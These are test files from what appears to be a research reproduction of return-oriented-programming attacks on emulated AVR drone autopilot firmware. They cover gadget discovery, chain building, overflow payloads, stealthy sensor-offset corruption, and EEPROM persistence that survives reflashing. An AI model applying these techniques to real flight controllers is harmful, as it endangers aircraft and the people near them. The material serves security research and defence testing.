def test_write_chain_block_structure(builder):
    chain = builder.write_chain(
        [Write3(0x300, b"abc")], final_ret_word=0x1234, final_regs={}
    )
    unit = builder.wm.pop_bytes + 3
    assert len(chain) == 2 * unit
    # first block's ret points at the std half
    first_ret = chain[builder.wm.pop_bytes : builder.wm.pop_bytes + 3]
    assert first_ret == ret_address_bytes(builder.wm.std_entry_word)
    # final ret leaves the chain
    assert chain[-3:] == ret_address_bytes(0x1234)


def test_chain_block_cost_formula(builder):
    for writes in (0, 1, 3):
        expected = (
            builder.stk.pop_bytes + 3
            + (writes + 1) * (builder.wm.pop_bytes + 3)
        )
        assert builder.chain_block_cost(writes) == expected
        chain = builder.chain_block(
            [Write3(0x300 + 4 * i, b"xyz") for i in range(writes)],
            final_ret_word=0, final_regs={},
        )
        assert len(chain) == expected


def test_overflow_payload_framing(builder):
    payload = builder.overflow_payload(b"CHAIN", 16, r29=0x21, r28=0x55, ret_word=0x77)
    assert len(payload) == 16 + 2 + 3
    assert payload[:5] == b"CHAIN"
    assert payload[5:16] == bytes([FILL_BYTE]) * 11
    assert payload[16] == 0x21 and payload[17] == 0x55
    assert payload[18:] == ret_address_bytes(0x77)


def test_overflow_payload_rejects_oversize(builder):
    with pytest.raises(AttackError):
        builder.overflow_payload(bytes(32), 16, r29=0, r28=0, ret_word=0)


def test_split_writes(builder):
    writes = builder.split_writes(0x400, b"ABCDEFG")
    assert [w.target for w in writes] == [0x400, 0x403, 0x406]
    assert writes[0].values == b"ABC"
    assert writes[2].values == b"G" + bytes([FILL_BYTE, FILL_BYTE])


def test_write3_validates_target():
    with pytest.raises(AttackError):
        Write3(0x10000, b"abc")
