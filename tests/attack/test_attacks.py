"""End-to-end attack tests: V1 (basic), V2 (stealthy), V3 (trampoline),
runtime-fact derivation and the Fig. 6 trace."""

import pytest

from repro.attack import (
    BasicAttack,
    StealthyAttack,
    TrampolineAttack,
    Write3,
    derive_runtime_facts,
    find_handler_call_site,
    trace_stealthy_attack,
    variable_address,
)
from repro.avr import RAMEND
from repro.errors import AttackError
from repro.firmware.hwmap import RX_BUFFER_SIZE
from repro.uav import Autopilot, AutopilotStatus, MaliciousGroundStation


# -- attacker-side analysis -------------------------------------------------

def test_call_site_found_statically(testapp):
    call_site = find_handler_call_site(testapp)
    comms = testapp.symbols.get("comms_poll")
    assert comms.address <= call_site < comms.end


def test_runtime_facts(testapp):
    facts = derive_runtime_facts(testapp)
    assert facts.buffer_size == RX_BUFFER_SIZE
    assert facts.frame_sp < RAMEND
    assert facts.buffer_start == facts.frame_sp - 2 - RX_BUFFER_SIZE + 1
    assert facts.return_address_word * 2 > facts.call_site
    # r28/r29 are deterministic at the call site
    again = derive_runtime_facts(testapp)
    assert (facts.saved_r28, facts.saved_r29) == (again.saved_r28, again.saved_r29)


def test_variable_address_rejects_functions(testapp):
    with pytest.raises(AttackError):
        variable_address(testapp, "main")


# -- V1: basic ROP -----------------------------------------------------------

def test_v1_writes_then_crashes(testapp):
    autopilot = Autopilot(testapp)
    outcome = BasicAttack(testapp).execute(autopilot, values=b"\x11\x22\x33")
    assert outcome.succeeded  # the sensor write landed...
    assert outcome.status is AutopilotStatus.CRASHED  # ...but the board died
    assert not outcome.stealthy
    assert outcome.link_lost  # the ground station noticed


def test_v1_crash_is_garbage_execution(testapp):
    autopilot = Autopilot(testapp)
    outcome = BasicAttack(testapp).execute(autopilot)
    assert outcome.crash is not None
    assert "beyond the programmed image" in outcome.crash.reason


# -- V2: stealthy ------------------------------------------------------------

def test_v2_stealthy_success(testapp):
    autopilot = Autopilot(testapp)
    outcome = StealthyAttack(testapp).execute(autopilot, values=b"\x40\x00\x00")
    assert outcome.succeeded
    assert outcome.stealthy
    assert outcome.status is AutopilotStatus.RUNNING
    assert not outcome.link_lost
    assert outcome.telemetry_frames_after > 0
    assert autopilot.read_variable("gyro_offset") == 0x40


def test_v2_restores_machine_state(testapp):
    """After the attack the loop must continue exactly as before."""
    attacked = Autopilot(testapp)
    outcome = StealthyAttack(testapp).execute(attacked)
    assert outcome.stealthy
    # stack pointer is back in the normal operating band
    attacked.tick()
    assert attacked.cpu.data.sp > RAMEND - 128
    # no spurious boot pulse (a wild reset would add one)
    assert len(attacked.feed.boot_pulses) == 1


def test_v2_effect_persists_and_propagates(testapp):
    """The gyro offset corruption reaches telemetry (sensor fusion)."""
    autopilot = Autopilot(testapp)
    gcs = MaliciousGroundStation()
    StealthyAttack(testapp).execute(autopilot, gcs=gcs, values=b"\x40\x00\x00")
    for _ in range(5):
        autopilot.tick()
        gcs.ingest(autopilot.transmitted_bytes())
    assert gcs.last_frame is not None
    assert gcs.last_frame.gyro_x != 0  # offset is now fused into telemetry


def test_v2_payload_fits_buffer(testapp):
    attack = StealthyAttack(testapp)
    target = variable_address(testapp, "gyro_offset")
    body = attack.attack_bytes([Write3(target, b"\x01\x02\x03")])
    assert len(body) == RX_BUFFER_SIZE - 6 + 2 + 3


def test_v2_rejects_oversized_chain(testapp):
    attack = StealthyAttack(testapp)
    too_many = [Write3(0x300 + 4 * i, b"abc") for i in range(10)]
    with pytest.raises(AttackError):
        attack.attack_bytes(too_many)


def test_v2_capacity_is_limited(testapp):
    """The limitation V3 exists to remove (paper §IV-E)."""
    assert StealthyAttack(testapp).max_payload_writes() <= 2


def test_v2_against_safe_firmware_fails(testapp, testapp_safe):
    """With the length check enabled the overflow never happens."""
    attack = StealthyAttack(testapp)  # built from the vulnerable binary
    autopilot = Autopilot(testapp_safe)
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        23, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    autopilot.receive_bytes(burst)
    autopilot.run_ticks(30)
    assert autopilot.status is AutopilotStatus.RUNNING
    assert autopilot.read_variable("gyro_offset") == 0


# -- V3: trampoline -----------------------------------------------------------

def test_v3_large_payload(testapp):
    autopilot = Autopilot(testapp)
    attack = TrampolineAttack(testapp)
    outcome = attack.execute(autopilot)
    assert outcome.succeeded
    assert outcome.stealthy
    # the 12-byte marker spans two variables
    marker = autopilot.cpu.data.read_block(
        autopilot.variable_address("accel_value"), 12
    )
    assert marker == b"TRAMPOLINE!\x00"


def test_v3_staging_is_stealthy_per_round(testapp):
    """Every staging round must itself return cleanly."""
    attack = TrampolineAttack(testapp)
    rounds = attack.all_rounds(attack.demo_payload())
    assert len(rounds) > 10  # many clean-return rounds
    autopilot = Autopilot(testapp)
    station = MaliciousGroundStation()
    # deliver only the staging rounds (not the trigger)
    for round_bytes in rounds[:-1]:
        autopilot.receive_bytes(station.exploit_burst(23, round_bytes))
        autopilot.run_ticks(3)
        assert autopilot.status is AutopilotStatus.RUNNING
    # nothing fired yet: targets still clean
    assert autopilot.read_variable("gyro_offset") == 0


def test_v3_staged_chain_matches_memory(testapp):
    """After staging, SRAM holds exactly the staged chain bytes."""
    attack = TrampolineAttack(testapp)
    staged = attack.staged_chain(attack.demo_payload())
    autopilot = Autopilot(testapp)
    station = MaliciousGroundStation()
    for round_bytes in attack.staging_rounds(staged):
        autopilot.receive_bytes(station.exploit_burst(23, round_bytes))
        autopilot.run_ticks(3)
    planted = autopilot.cpu.data.read_block(attack.staging_base, len(staged))
    # staging writes in 3-byte chunks with fill padding at the tail
    assert planted[: len(staged)] == staged


def test_v3_collision_guard(testapp):
    attack = TrampolineAttack(testapp, staging_base=0x2100)  # too close to stack
    with pytest.raises(AttackError):
        attack.all_rounds(attack.demo_payload())


# -- Fig. 6 -------------------------------------------------------------------

def test_fig6_trace(testapp):
    trace = trace_stealthy_attack(testapp)
    assert len(trace.snapshots) == 7
    assert trace.resumed_cleanly
    labels = [snap.label for snap in trace.snapshots]
    assert labels[0].startswith("(i)")
    assert labels[-1].startswith("(vii)")
    rendered = trace.render()
    assert "Gadget1" in rendered
    assert "resumed cleanly: True" in rendered


def test_fig6_repair_restores_clean_window(testapp):
    trace = trace_stealthy_attack(testapp)
    clean = trace.snapshots[0]
    repaired = trace.snapshots[-1]
    assert clean.base_address == repaired.base_address
    facts = derive_runtime_facts(testapp)
    # the 3 return-address bytes the overflow smashed are restored to the
    # value a normal call pushes (snapshot (i) is pre-call, so the slot is
    # compared against the statically known return address, not (i))
    from repro.attack import ret_address_bytes

    offset = facts.frame_sp + 1 - repaired.base_address
    restored = repaired.data[offset : offset + 3]
    assert restored == ret_address_bytes(facts.return_address_word)
