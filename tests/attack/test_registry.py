"""Attack registry: lookup contract, layer partition, lifecycle hooks."""

import pytest

from repro.attack import (
    MEMORY_LAYER,
    PROTOCOL_LAYER,
    AttackKind,
    attack_kind,
    attack_kinds,
    attack_names,
    register_kind,
)
from repro.sim import ATTACK_VARIANTS, ScenarioSpec, run_scenario
from repro.uav import ANOMALY_KINDS


# -- lookup contract ----------------------------------------------------------

def test_registration_order_defines_attack_variants():
    assert attack_names() == ATTACK_VARIANTS
    # the memory tier keeps its historical order; protocol kinds follow
    assert ATTACK_VARIANTS[:6] == ("v1", "v2", "v3", "guess", "oracle", "v4")


def test_layers_partition_the_registry():
    memory = attack_names(MEMORY_LAYER)
    protocol = attack_names(PROTOCOL_LAYER)
    assert set(memory) | set(protocol) == set(attack_names())
    assert not set(memory) & set(protocol)
    assert protocol == (
        "replay", "gps_spoof", "waypoint_inject", "command_inject", "flood",
    )


def test_unknown_name_raises_listing_choices():
    with pytest.raises(ValueError, match="unknown attack kind"):
        attack_kind("v9")


def test_duplicate_registration_rejected():
    with pytest.raises(ValueError, match="already registered"):
        register_kind(AttackKind(name="v1", layer=MEMORY_LAYER, summary="dup"))


def test_unknown_layer_rejected():
    with pytest.raises(ValueError, match="unknown attack layer"):
        AttackKind(name="x", layer="astral", summary="nope")


def test_every_kind_has_summary_and_inject():
    for kind in attack_kinds():
        assert kind.summary
        assert kind.inject is not None


def test_protocol_kinds_declare_detector_contract():
    for kind in attack_kinds(PROTOCOL_LAYER):
        assert kind.expected_anomalies, kind.name
        assert set(kind.expected_anomalies) <= set(ANOMALY_KINDS)
        assert "attack_seed" in kind.required_fields
    for kind in attack_kinds(MEMORY_LAYER):
        assert kind.expected_anomalies == ()


# -- hooks --------------------------------------------------------------------

def test_oracle_validate_hook_rejects_protected_spec():
    with pytest.raises(ValueError, match="unprotected"):
        ScenarioSpec(attack="oracle", protected=True)


def test_spec_validation_goes_through_registry():
    with pytest.raises(ValueError, match="unknown attack kind"):
        ScenarioSpec(attack="nonesuch")


def test_v4_runs_through_the_registry(testapp):
    """The orphaned persistence attack is a first-class spec kind now."""
    spec = ScenarioSpec(
        image_hex=testapp.to_preprocessed_hex(), protected=False,
        attack="v4", observe_ticks=30,
    )
    result = run_scenario(spec)
    assert result.succeeded
    assert result.delivered_bytes > 0
    assert result.detector is None  # memory-tier records keep their shape
