"""V4 persistence attack + the EEPROM controller it drives."""

import pytest

from repro.attack import (
    PersistenceAttack,
    config_block_pairs,
    eeprom_program_writes,
)
from repro.avr import AvrCpu, EepromController, Instruction, Mnemonic, encode_stream
from repro.avr.iospace import EECR_DATA, EEDR_DATA, EEARL_DATA
from repro.firmware.hwmap import CONFIG_EEPROM_ADDR, CONFIG_MAGIC
from repro.uav import Autopilot, AutopilotStatus

I = Instruction
M = Mnemonic


# -- controller ---------------------------------------------------------------

def eeprom_cpu():
    cpu = AvrCpu()
    controller = EepromController(cpu)
    cpu.load_program(encode_stream([I(M.NOP)]))
    cpu.reset()
    return cpu, controller


def test_controller_write_and_read():
    cpu, controller = eeprom_cpu()
    cpu.data.write(EEARL_DATA, 0x20)
    cpu.data.write(EEDR_DATA, 0x99)
    cpu.data.write(EECR_DATA, 0x02)  # EEPE strobe
    assert cpu.eeprom.read(0x20) == 0x99
    cpu.data.write(EEDR_DATA, 0x00)
    cpu.data.write(EECR_DATA, 0x01)  # EERE strobe
    assert cpu.data.read(EEDR_DATA) == 0x99
    assert controller.writes == 1 and controller.reads == 1


def test_strobe_bits_self_clear():
    cpu, _controller = eeprom_cpu()
    cpu.data.write(EECR_DATA, 0x02)
    assert cpu.data.read(EECR_DATA) == 0  # EEPE reads back as zero


def test_out_of_range_strobe_ignored():
    cpu, controller = eeprom_cpu()
    cpu.data.write(EEARL_DATA, 0xFF)
    cpu.data.write(0x42, 0xFF)  # EEARH: address 0xFFFF, beyond 4 KB
    cpu.data.write(EECR_DATA, 0x02)
    assert controller.writes == 0


# -- chain construction --------------------------------------------------------

def test_eeprom_program_writes_layout():
    writes = eeprom_program_writes([(0x10, 0xAA), (0x11, 0xBB)])
    assert len(writes) == 3
    assert writes[0].target == EEDR_DATA
    assert writes[0].values == bytes([0xAA, 0x10, 0x00])
    assert writes[1].target == EECR_DATA
    assert writes[1].values == bytes([0x02, 0xBB, 0x11])
    assert writes[2].values[0] == 0x02  # final commit strobe


def test_eeprom_program_writes_empty():
    assert eeprom_program_writes([]) == []


def test_eeprom_program_writes_address_range():
    with pytest.raises(ValueError):
        eeprom_program_writes([(0x100, 1)])


def test_config_block_pairs():
    pairs = config_block_pairs(b"\x01\x02\x03\x04\x05\x06")
    assert pairs[0] == (CONFIG_EEPROM_ADDR, CONFIG_MAGIC)
    assert pairs[1] == (CONFIG_EEPROM_ADDR + 1, 1)
    assert len(pairs) == 7
    with pytest.raises(ValueError):
        config_block_pairs(b"\x01")


# -- the attack ------------------------------------------------------------------

def test_v4_plants_config_and_persists(testapp):
    autopilot = Autopilot(testapp)
    calibration = b"\x40\x00\x80\x00\xc0\x00"
    outcome = PersistenceAttack(testapp).execute(autopilot, calibration=calibration)
    assert outcome.stealthy
    assert "eeprom_config" in outcome.effects
    block = bytes(
        autopilot.cpu.eeprom.read(CONFIG_EEPROM_ADDR + i) for i in range(7)
    )
    assert block == bytes([CONFIG_MAGIC]) + calibration

    # SRAM effect appears only after the next boot loads the config...
    assert autopilot.read_variable("gyro_offset") == 0
    autopilot.reset()
    autopilot.run_ticks(5)
    assert autopilot.read_variable("gyro_offset") == int.from_bytes(
        calibration, "little"
    )

    # ...and a clean firmware reflash does NOT remove it
    autopilot.reflash(testapp)
    autopilot.run_ticks(5)
    assert autopilot.status is AutopilotStatus.RUNNING
    assert autopilot.read_variable("gyro_offset") == int.from_bytes(
        calibration, "little"
    )


def test_fresh_eeprom_config_is_skipped(testapp):
    """Without the magic byte, config_load leaves the defaults alone."""
    autopilot = Autopilot(testapp)
    autopilot.run_ticks(5)
    assert autopilot.read_variable("gyro_offset") == 0
    assert autopilot.cpu.eeprom.read(CONFIG_EEPROM_ADDR) == 0xFF
