"""Robustness fuzzing: hostile inputs must fail with typed errors, never
crash the library."""

import random

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attack import GadgetFinder
from repro.binfmt import FirmwareImage, Symbol, SymbolTable
from repro.errors import ReproError
from repro.mavlink import StreamParser


@settings(max_examples=50, deadline=None)
@given(st.binary(min_size=4, max_size=512), st.integers(0, 2**31))
def test_gadget_finder_on_random_bytes(blob, seed):
    """Arbitrary bytes as an 'image': the scanner must survive."""
    size = len(blob) - (len(blob) % 2)
    blob = blob[:size]
    table = SymbolTable([Symbol("blob", 0, size)])
    image = FirmwareImage(
        code=blob, symbols=table, text_start=0, text_end=size,
        data_start=size, data_end=size, entry_symbol="blob",
    )
    finder = GadgetFinder(image)
    gadgets = finder.gadgets()
    for gadget in gadgets:
        assert 0 <= gadget.address < size
    finder.jop_gadgets()
    finder.histogram()


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=256), st.booleans())
def test_stream_parser_fuzz(noise, vulnerable):
    parser = StreamParser(length_check=not vulnerable)
    parser.push(noise)
    parser.flush()


@settings(max_examples=25, deadline=None)
@given(st.binary(min_size=1, max_size=200))
def test_from_flash_blob_fuzz(blob):
    """Corrupted flash containers raise typed errors only."""
    try:
        FirmwareImage.from_flash_blob(blob)
    except ReproError:
        pass
    except (UnicodeDecodeError, ValueError):
        pass  # tag decoding of random bytes; acceptable failure class


@settings(max_examples=25, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126),
               max_size=400))
def test_hex_decode_fuzz(text):
    from repro.binfmt import decode
    try:
        decode(text)
    except ReproError:
        pass
