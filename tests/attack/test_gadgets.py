"""Gadget discovery and classification."""

import pytest

from repro.attack import GadgetFinder
from repro.avr import Instruction, Mnemonic, encode_stream
from repro.binfmt import FirmwareImage, Symbol, SymbolTable
from repro.errors import GadgetNotFoundError

I = Instruction
M = Mnemonic


def image_from(insns):
    code = encode_stream(insns)
    table = SymbolTable([Symbol("blob", 0, len(code))])
    return FirmwareImage(
        code=code, symbols=table, text_start=0, text_end=len(code),
        data_start=len(code), data_end=len(code), entry_symbol="blob",
    )


def test_counts_one_gadget_per_ret():
    image = image_from([
        I(M.LDI, rd=16, k=1), I(M.RET),
        I(M.INC, rd=17), I(M.DEC, rd=17), I(M.RET),
    ])
    finder = GadgetFinder(image)
    assert finder.count() == 2
    lengths = sorted(g.length for g in finder.gadgets())
    assert lengths == [2, 3]


def test_control_flow_breaks_runs():
    image = image_from([
        I(M.LDI, rd=16, k=1),
        I(M.RJMP, k=0),      # breaks the run
        I(M.LDI, rd=17, k=2),
        I(M.RET),
    ])
    finder = GadgetFinder(image)
    gadgets = finder.gadgets()
    assert len(gadgets) == 1
    assert gadgets[0].length == 2  # ldi r17 + ret only


def test_undecodable_bytes_break_runs():
    code = encode_stream([I(M.LDI, rd=16, k=1)]) + b"\xff\xff" + encode_stream([
        I(M.LDI, rd=17, k=2), I(M.RET),
    ])
    table = SymbolTable([Symbol("blob", 0, len(code))])
    image = FirmwareImage(
        code=code, symbols=table, text_start=0, text_end=len(code),
        data_start=len(code), data_end=len(code), entry_symbol="blob",
    )
    gadgets = GadgetFinder(image).gadgets()
    assert len(gadgets) == 1
    assert gadgets[0].length == 2


def test_stk_move_classified():
    image = image_from([
        I(M.NOP),
        I(M.OUT, a=0x3E, rr=29),
        I(M.OUT, a=0x3F, rr=0),
        I(M.OUT, a=0x3D, rr=28),
        I(M.POP, rd=28),
        I(M.POP, rd=29),
        I(M.POP, rd=16),
        I(M.RET),
    ])
    finder = GadgetFinder(image)
    stk = finder.find_stk_move()
    assert stk.entry == 2  # byte address of `out 0x3e, r29`
    assert stk.pop_regs == (28, 29, 16)
    assert stk.pop_bytes == 3


def test_write_mem_classified():
    pops = [I(M.POP, rd=r) for r in (29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4)]
    image = image_from([
        I(M.STD_Y, rr=5, q=1),
        I(M.STD_Y, rr=6, q=2),
        I(M.STD_Y, rr=7, q=3),
        *pops,
        I(M.RET),
    ])
    finder = GadgetFinder(image)
    wm = finder.find_write_mem()
    assert wm.std_entry == 0
    assert wm.pop_entry == 6  # after three 1-word stores
    assert wm.stores == ((1, 5), (2, 6), (3, 7))
    assert wm.pop_regs[0] == 29
    assert wm.pop_index(5) == 14


def test_write_mem_requires_y_reload():
    # pops that do not include r28/r29 cannot chain
    image = image_from([
        I(M.STD_Y, rr=5, q=1),
        I(M.POP, rd=5),
        I(M.RET),
    ])
    finder = GadgetFinder(image)
    assert finder.write_mem_gadgets() == []


def test_missing_gadget_raises():
    image = image_from([I(M.LDI, rd=16, k=1), I(M.RET)])
    finder = GadgetFinder(image)
    with pytest.raises(GadgetNotFoundError):
        finder.find_stk_move()
    with pytest.raises(GadgetNotFoundError):
        finder.find_write_mem()


def test_testapp_has_paper_gadgets(testapp):
    finder = GadgetFinder(testapp)
    stk = finder.find_stk_move()
    wm = finder.find_write_mem()
    # the paper's exact shapes, carried by the firmware core
    assert stk.pop_regs == (28, 29, 16)
    assert wm.stores == ((1, 5), (2, 6), (3, 7))
    assert wm.pop_regs == (29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4)
    assert finder.count() > 50  # every function contributes at least its ret


def test_histogram_sums_to_count(testapp):
    finder = GadgetFinder(testapp)
    assert sum(finder.histogram().values()) == finder.count()


def test_gadget_addresses_inside_text(testapp):
    for gadget in GadgetFinder(testapp).gadgets():
        assert 0 <= gadget.address < testapp.text_end
        assert gadget.ret_address < testapp.text_end
