"""Gadget classifier negative/edge cases and chain builder error paths."""

import pytest

from repro.attack import ChainBuilder, GadgetFinder, Write3
from repro.attack.gadgets import WriteMemGadget, _classify_stk_move, _classify_write_mem, Gadget
from repro.avr import Instruction, Mnemonic, encode_stream
from repro.binfmt import FirmwareImage, Symbol, SymbolTable
from repro.errors import AttackError

I = Instruction
M = Mnemonic


def gadget_from(insns):
    code = encode_stream(insns)
    pairs = []
    offset = 0
    for insn in insns:
        pairs.append((offset, insn))
        offset += insn.size_bytes
    return Gadget(0, tuple(pairs))


def test_stk_move_requires_spl_write():
    # SPH write with no SPL write -> not a stack move
    gadget = gadget_from([
        I(M.OUT, a=0x3E, rr=29),
        I(M.POP, rd=28),
        I(M.RET),
    ])
    assert _classify_stk_move(gadget) is None


def test_stk_move_rejects_interleaved_work():
    gadget = gadget_from([
        I(M.OUT, a=0x3E, rr=29),
        I(M.ADD, rd=16, rr=17),  # arbitrary work between SP writes
        I(M.OUT, a=0x3D, rr=28),
        I(M.RET),
    ])
    assert _classify_stk_move(gadget) is None


def test_stk_move_allows_sreg_restore():
    gadget = gadget_from([
        I(M.OUT, a=0x3E, rr=29),
        I(M.OUT, a=0x3F, rr=0),
        I(M.OUT, a=0x3D, rr=28),
        I(M.RET),
    ])
    classified = _classify_stk_move(gadget)
    assert classified is not None
    assert classified.pop_regs == ()


def test_write_mem_rejects_interleaved_non_pop():
    gadget = gadget_from([
        I(M.STD_Y, rr=5, q=1),
        I(M.POP, rd=29),
        I(M.ADD, rd=16, rr=17),  # breaks the pop chain
        I(M.POP, rd=28),
        I(M.RET),
    ])
    assert _classify_write_mem(gadget) is None


def test_write_mem_requires_stored_regs_reloaded():
    gadget = gadget_from([
        I(M.STD_Y, rr=5, q=1),
        I(M.POP, rd=29),
        I(M.POP, rd=28),
        I(M.POP, rd=4),  # r5 never reloaded
        I(M.RET),
    ])
    assert _classify_write_mem(gadget) is None


def test_chain_builder_rejects_non_contiguous_stores(testapp):
    builder = ChainBuilder(testapp)
    # forge a gadget with a hole in its displacements
    builder.wm = WriteMemGadget(
        std_entry=builder.wm.std_entry,
        pop_entry=builder.wm.pop_entry,
        stores=((1, 5), (3, 6), (5, 7)),  # gaps
        pop_regs=builder.wm.pop_regs,
    )
    with pytest.raises(AttackError):
        builder.write_chain([Write3(0x300, b"abc")], 0, {})


def test_chain_builder_requires_y_first_in_stk():
    """A stk_move that reloads the wrong registers first is unusable."""
    pops = [I(M.POP, rd=r) for r in (29, 28, 17, 16, 15, 14, 13, 12, 11, 10, 9, 8, 7, 6, 5, 4)]
    insns = [
        # stk_move variant popping r16 before r28/r29
        I(M.OUT, a=0x3E, rr=29),
        I(M.OUT, a=0x3D, rr=28),
        I(M.POP, rd=16),
        I(M.POP, rd=28),
        I(M.POP, rd=29),
        I(M.RET),
        # a valid write_mem so only the stk shape is at fault
        I(M.STD_Y, rr=5, q=1),
        I(M.STD_Y, rr=6, q=2),
        I(M.STD_Y, rr=7, q=3),
        *pops,
        I(M.RET),
    ]
    code = encode_stream(insns)
    table = SymbolTable([Symbol("blob", 0, len(code))])
    image = FirmwareImage(
        code=code, symbols=table, text_start=0, text_end=len(code),
        data_start=len(code), data_end=len(code), entry_symbol="blob",
    )
    with pytest.raises(AttackError):
        ChainBuilder(image)


def test_write3_target_bounds():
    with pytest.raises(AttackError):
        Write3(-1, b"abc")


def test_finder_gadget_boundaries(testapp):
    """Gadget runs never span an undecodable hole or control flow."""
    finder = GadgetFinder(testapp)
    for gadget in finder.gadgets()[:50]:
        mnemonics = gadget.mnemonics()
        assert mnemonics[-1] is M.RET
        # no control flow before the final ret
        from repro.avr.insn import CONTROL_FLOW
        assert all(m not in CONTROL_FLOW for m in mnemonics[:-1])


def test_jop_gadgets_found(testapp):
    """Jump-oriented gadgets (ijmp/icall-terminated) are counted too."""
    finder = GadgetFinder(testapp)
    jop = finder.jop_gadgets()
    assert finder.jop_count() == len(jop)
    assert finder.jop_count() >= 1  # task_dispatch ends in icall
    for gadget in jop:
        assert gadget.mnemonics()[-1] in (M.IJMP, M.ICALL)


def test_jop_gadgets_also_move_under_randomization(testapp):
    import random
    from repro.core import randomize_image

    finder = GadgetFinder(testapp)
    jop = finder.jop_gadgets()
    randomized, _perm = randomize_image(testapp, random.Random(77))
    surviving = sum(
        1 for g in jop
        if randomized.code[g.address : g.address + 8]
        == testapp.code[g.address : g.address + 8]
    )
    assert surviving / len(jop) < 0.5
