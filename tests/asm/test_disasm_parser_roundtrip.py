"""Cross-tool property: the parser accepts what the disassembler prints.

For data/ALU/I-O instructions (everything whose text form carries no
label), ``parse(format(insn))`` must reproduce the instruction exactly —
keeping the two front-ends honest with each other.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.asm import format_instruction, parse_program
from repro.avr import Instruction, Mnemonic

M = Mnemonic

reg = st.integers(0, 31)
reg_high = st.integers(16, 31)
imm8 = st.integers(0, 255)
disp6 = st.integers(0, 63)
bit3 = st.integers(0, 7)

_CASES = st.one_of(
    st.builds(lambda rd, rr: Instruction(M.MOV, rd=rd, rr=rr), reg, reg),
    st.builds(lambda rd, rr: Instruction(M.ADD, rd=rd, rr=rr), reg, reg),
    st.builds(lambda rd, rr: Instruction(M.EOR, rd=rd, rr=rr), reg, reg),
    st.builds(lambda rd, rr: Instruction(M.MUL, rd=rd, rr=rr), reg, reg),
    st.builds(lambda rd, k: Instruction(M.LDI, rd=rd, k=k), reg_high, imm8),
    st.builds(lambda rd, k: Instruction(M.ANDI, rd=rd, k=k), reg_high, imm8),
    st.builds(lambda rd, k: Instruction(M.CPI, rd=rd, k=k), reg_high, imm8),
    st.builds(lambda rd: Instruction(M.INC, rd=rd), reg),
    st.builds(lambda rd: Instruction(M.LSR, rd=rd), reg),
    st.builds(lambda rr: Instruction(M.PUSH, rr=rr), reg),
    st.builds(lambda rd: Instruction(M.POP, rd=rd), reg),
    st.builds(lambda rd, q: Instruction(M.LDD_Y, rd=rd, q=q), reg, disp6),
    st.builds(lambda rr, q: Instruction(M.STD_Y, rr=rr, q=q), reg, disp6),
    st.builds(lambda rd, q: Instruction(M.LDD_Z, rd=rd, q=q), reg, disp6),
    st.builds(lambda rr, q: Instruction(M.STD_Z, rr=rr, q=q), reg, disp6),
    st.builds(lambda rd: Instruction(M.LD_X_INC, rd=rd), reg),
    st.builds(lambda rr: Instruction(M.ST_Y_DEC, rr=rr), reg),
    st.builds(lambda rd, a: Instruction(M.IN, rd=rd, a=a), reg, st.integers(0, 63)),
    st.builds(lambda rr, a: Instruction(M.OUT, rr=rr, a=a), reg, st.integers(0, 63)),
    st.builds(lambda a, b: Instruction(M.SBI, a=a, b=b), st.integers(0, 31), bit3),
    st.builds(lambda rd, b: Instruction(M.SBRC, rd=rd, b=b), reg, bit3),
    st.builds(lambda rd, k: Instruction(M.LDS, rd=rd, k=k), reg, st.integers(0, 0xFFFF)),
    st.builds(lambda rr, k: Instruction(M.STS, rr=rr, k=k), reg, st.integers(0, 0xFFFF)),
    st.builds(lambda rd, k: Instruction(M.ADIW, rd=rd, k=k),
              st.sampled_from([24, 26, 28, 30]), disp6),
    st.builds(lambda rd, rr: Instruction(M.MOVW, rd=rd, rr=rr),
              st.integers(0, 15).map(lambda i: i * 2),
              st.integers(0, 15).map(lambda i: i * 2)),
    st.sampled_from([Instruction(M.NOP), Instruction(M.RET), Instruction(M.WDR),
                     Instruction(M.IJMP), Instruction(M.ICALL),
                     Instruction(M.LPM_R0)]),
    st.builds(lambda rd: Instruction(M.LPM, rd=rd), reg),
    st.builds(lambda rd: Instruction(M.LPM_INC, rd=rd), reg),
)


@settings(max_examples=600, deadline=None)
@given(_CASES)
def test_parser_accepts_disassembler_output(insn):
    text = format_instruction(insn)
    program = parse_program(f".text\n.func f\n{text}\n.endfunc\n")
    parsed = program.function("f").instructions()
    assert len(parsed) == 1
    assert parsed[0].as_instruction() == insn
