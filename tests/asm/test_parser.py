"""Text-assembler front-end tests."""

import pytest

from repro.asm import DataKind, LabelRef, RefKind, SymbolRef, parse_program
from repro.avr import Mnemonic
from repro.errors import AsmSyntaxError


def parse_one_function(body: str, attrs: str = ""):
    program = parse_program(f".text\n.func f {attrs}\n{body}\n.endfunc\n")
    return program.function("f")


def test_basic_instructions():
    func = parse_one_function("""
        ldi r16, 0x42
        mov r0, r16
        add r16, r17
        nop
    """)
    insns = func.instructions()
    assert insns[0].mnemonic is Mnemonic.LDI
    assert insns[0].rd == 16 and insns[0].k == 0x42
    assert insns[1].mnemonic is Mnemonic.MOV
    assert insns[2].mnemonic is Mnemonic.ADD
    assert insns[3].mnemonic is Mnemonic.NOP


def test_labels_and_branches():
    func = parse_one_function("""
    loop:
        dec r24
        brne loop
    """)
    assert func.labels() == ["loop"]
    branch = func.instructions()[1]
    assert branch.mnemonic is Mnemonic.BRBC and branch.b == 1
    assert isinstance(branch.k, LabelRef)


def test_forward_local_label_resolves():
    func = parse_one_function("""
        rjmp done
        nop
    done:
        nop
    """)
    assert isinstance(func.instructions()[0].k, LabelRef)


def test_global_call_target():
    func = parse_one_function("call other_function")
    target = func.instructions()[0].k
    assert isinstance(target, SymbolRef)
    assert target.name == "other_function"


def test_lo8_hi8_refs():
    func = parse_one_function("""
        ldi r30, lo8(buffer)
        ldi r31, hi8(buffer+2)
        ldi r30, lo8w(main)
    """)
    first, second, third = func.instructions()
    assert first.k == SymbolRef("buffer", RefKind.LO8)
    assert second.k == SymbolRef("buffer", RefKind.HI8, 2)
    assert third.k == SymbolRef("main", RefKind.LO8_WORD)


def test_pointer_forms():
    func = parse_one_function("""
        ld r16, X+
        ld r17, -Y
        ld r18, Z
